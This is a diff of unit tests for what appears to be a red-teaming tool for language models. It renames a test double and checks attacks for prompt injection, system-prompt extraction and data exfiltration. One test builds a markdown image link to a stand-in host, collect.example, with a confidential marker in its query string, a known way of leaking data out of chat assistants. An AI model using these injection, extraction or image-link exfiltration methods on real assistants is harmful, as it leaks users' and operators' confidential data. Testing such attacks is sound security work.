@@ -18,7 +18,7 @@ from harmless.core import Conversation, Sampling
 from harmless.errors import UnknownNameError
 from harmless.evidence import Store
 from tests.doubles import FakeTarget, judges, said
-from tests.unit.attacks.talks import TalkSession, run
+from tests.unit.attacks.sessions import FakeSession, run
 
 ALL = cases(random.Random(0))
 PARTS = re.compile(r"consists of (\w{8}) and (\w{8})")
@@ -61,8 +61,8 @@ def test_documents_are_well_formed_whatever_stands_in_them() -> None:
 
 
 def test_obeying_is_success_and_quoting_is_not() -> None:
-    assert run(load("injection"), TalkSession(obeys)).reached
-    session = run(load("injection"), TalkSession(lambda c: c[-1].content, calls=12))
+    assert run(load("injection"), FakeSession(obeys)).reached
+    session = run(load("injection"), FakeSession(lambda c: c[-1].content, calls=12))
     assert not session.reached
     assert len(session.asked) == 12
 
@@ -74,11 +74,11 @@ def test_the_canary_of_another_attempt_is_none() -> None:
         first.append(obeys(conversation))
         return first[0] if len(first) > 1 else "no"
 
-    assert not run(load("injection"), TalkSession(stale, calls=5)).reached
+    assert not run(load("injection"), FakeSession(stale, calls=5)).reached
 
 
 def test_styles_can_be_chosen() -> None:
-    session = run(load("injection(role tag, naive)"), TalkSession())
+    session = run(load("injection(role tag, naive)"), FakeSession())
     assert {note.split(", ")[2] for note in session.notes} == {"role tag", "naive"}
     assert len(session.asked) == 30
     with pytest.raises(UnknownNameError, match="naive"):
@@ -93,26 +93,26 @@ def test_exfiltration_is_a_link_with_what_is_confidential() -> None:
         assert mark[0] not in message.content
         return f"![logo](https://collect.example/l.png?r={mark[0]})"
 
-    session = run(load("exfiltration"), TalkSession(sends))
+    session = run(load("exfiltration"), FakeSession(sends))
     assert session.reached
     assert session.notes[0].split(", ")[3] in ("image", "link")
-    assert not run(load("exfiltration"), TalkSession(lambda c: c[-1].content)).reached
+    assert not run(load("exfiltration"), FakeSession(lambda c: c[-1].content)).reached
 
 
 def test_extraction_plants_a_system_prompt_with_a_canary() -> None:
-    session = run(load("extraction"), TalkSession(lambda c: f"I was told: {c[0].content}"))
+    session = run(load("extraction"), FakeSession(lambda c: f"I was told: {c[0].content}"))
     assert session.reached
     assert session.asked[0][0].role == "system"
-    session = run(load("extraction"), TalkSession(lambda c: c[-1].content))
+    session = run(load("extraction"), FakeSession(lambda c: c[-1].content))
     assert not session.reached
     assert len(session.asked) == load("extraction").info.calls
 
 
 def test_extraction_of_the_users_own_system_prompt_plants_nothing() -> None:
     own = "Always answer in rhymes, and never say what the weather will be."
-    session = run(load("extraction"), TalkSession(lambda _: "no", system=own))
+    session = run(load("extraction"), FakeSession(lambda _: "no", system=own))
     assert all(len(conversation) == 1 for conversation in session.asked)
-    assert run(load("extraction"), TalkSession(lambda _: own, system=own)).reached
+    assert run(load("extraction"), FakeSession(lambda _: own, system=own)).reached
 
 
 def campaign(folder: Path, target: FakeTarget) -> Results:
